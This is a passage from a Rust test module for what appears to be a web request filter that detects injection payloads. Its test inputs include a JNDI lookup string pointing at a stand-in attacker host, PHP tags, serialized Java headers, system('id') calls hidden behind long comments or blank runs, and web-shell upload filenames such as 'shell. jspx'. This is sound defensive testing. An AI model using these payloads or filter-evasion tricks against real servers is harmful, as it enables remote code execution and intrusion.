            "Dear $name (customer 1234), your order shipped",
            "Total: $total (incl. VAT)",
            "Hello $FirstName (via app)",
            "Apple ($AAPL) (up 3%)",
            "[$AAPL](https://finance.example/AAPL)",
            "The price (in $USD) (excluding tax) is 20",
            "process[status]=open",
            "at java.io.FileInputStream.<init>(FileInputStream.java:138)",
            "at java.lang.Runtime.exec(Runtime.java:620)",
            "at org.apache.catalina.core.ApplicationDispatcher.include(ApplicationDispatcher.java:549)",
            "mail.smtp.host=smtp.example.com",
            "session.timeout = 30",
            "please include 'urgent' in the subject",
            "the runtime. of x.runtime is y",
            // Tester s1's.
            "see system(3) and chmod(1)",
            "call exec() to replace the process",
            "add_passthru(dev) and subprocess.Popen(args) and os.getenv('HOME')",
            "posix_fallocate(fd, 0, len)",
            "{{ 10-20 }}% off",
            "Ticket #{12-34}",
            "java.nio.charset.StandardCharsets.UTF_8",
            "Hello ${user.name}",
            "please include urgent; thanks",
            "we run it in our --detached mode",
        ] {
            assert!(!found(text, 1), "{text}");
        }
    }

    #[test]
    fn checks_of_higher_levels_wait_for_them() {
        assert!(!found("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", 1));
        assert!(found("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", 2));
        assert!(!found("smtp=true", 1));
        assert!(found("smtp=true", 2));
        assert!(!found("{% for x in y %}", 1));
        assert!(found("{% for x in y %}", 2));
    }

    #[test]
    fn only_the_jvm_s_checks_read_other_headers_at_paranoia_one() {
        let v = b"${jndi:ldap://evil.example/a}";
        assert!(check(v, Shape::of(v), false, 1).is_some());
        let v = b"<?php echo 1; ?>";
        assert!(check(v, Shape::of(v), false, 1).is_none());
        assert!(check(v, Shape::of(v), true, 1).is_some());
    }

    #[test]
    fn uploaded_scripts_and_session_files_are_found() {
        // The file names a server obeys, however Windows or a server trims them (the review:
        // `.htaccess.` passed where `shell.php.` did not).
        for name in [".htaccess", ".htaccess.", "a/.HTACCESS..", "wp-config. php", "web.config "] {
            assert!(super::super::traversal::upload_name(name.as_bytes(), 1).is_some(), "{name}");
        }
        for name in [
            "a.php",
            "a.php..",
            "fda.php5",
            "photo. php",
            "shell. jspx",
            "x.phpt",
            "x/y.phtml",
            "B.jsp",
            "a.jspx...",
            "sess_d8ew88tqmabdcokhumchy8htqm",
        ] {
            assert!(upload_name(name.as_bytes(), 1).is_some(), "{name}");
        }
        for name in ["report.pdf", "photo.jpg", "php.txt", "sess_short", "a.json", "notes.php.txt"] {
            assert!(upload_name(name.as_bytes(), 1).is_none(), "{name}");
        }
    }

    #[test]
    fn long_gaps_hide_no_call() {
        // Tester t1: a gap walk bounded to 256 bytes let a longer comment or run of blanks hide
        // the call.
        for v in [
            format!("system/*{}*/('id')", "x".repeat(300)),
            format!("$f{}('id')", " ".repeat(300)),
            format!("system#{}\n('id')", "x".repeat(3000)),
        ] {
            assert!(found(&v, 1), "{}...", &v[..20]);
        }
    }

    #[test]
    fn hostile_values_cost_linear_time() {
        // Each scan is bounded per occurrence; 64 KiB of each opener must not take quadratic time
        // (a regression shows as this test running for minutes, not as an assertion).
        for unit in [
            "$a[",
            "(",
            "\"x\".",
            "${",
            "<?",
            "{{",
            "#{",
            "O:1:\"",
            "while(",
            "((((",
            "$_",
            "java.",
            "'.",
            // The review's: each had read to the value's end from every opener.
            "x.runtime ",
            "processbuilder.a ",
            "$/*",
            "'./*",
            "$a//",
            "$#",
            "*/(",
            "'.#",
            "*/.'",
            "include '",
            "{{[0]|filter('",
        ] {
            let v = unit.repeat(65536 / unit.len());
            let _ = check(v.as_bytes(), Shape::of(v.as_bytes()), true, 4);
        }
    }
}
